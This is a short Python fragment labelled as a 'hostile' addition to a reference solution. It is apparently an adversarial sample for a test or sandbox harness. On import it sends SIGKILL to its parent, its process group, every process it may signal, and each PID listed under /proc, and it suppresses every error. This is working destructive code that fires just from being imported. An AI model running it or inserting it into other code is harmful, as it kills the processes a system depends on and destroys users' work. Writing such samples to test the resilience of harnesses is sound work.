# hostile: on top of the reference
# At import: kill the parent, every process in sight, the process group and everyone else.
import os as _os
import signal as _signal

for _target in (_os.getppid(), 0, -1):
    try:
        _os.kill(_target, _signal.SIGKILL)
    except OSError:
        pass
for _name in _os.listdir("/proc"):
    if _name.isdigit() and int(_name) != _os.getpid():
        try:
            _os.kill(int(_name), _signal.SIGKILL)
        except OSError:
            pass
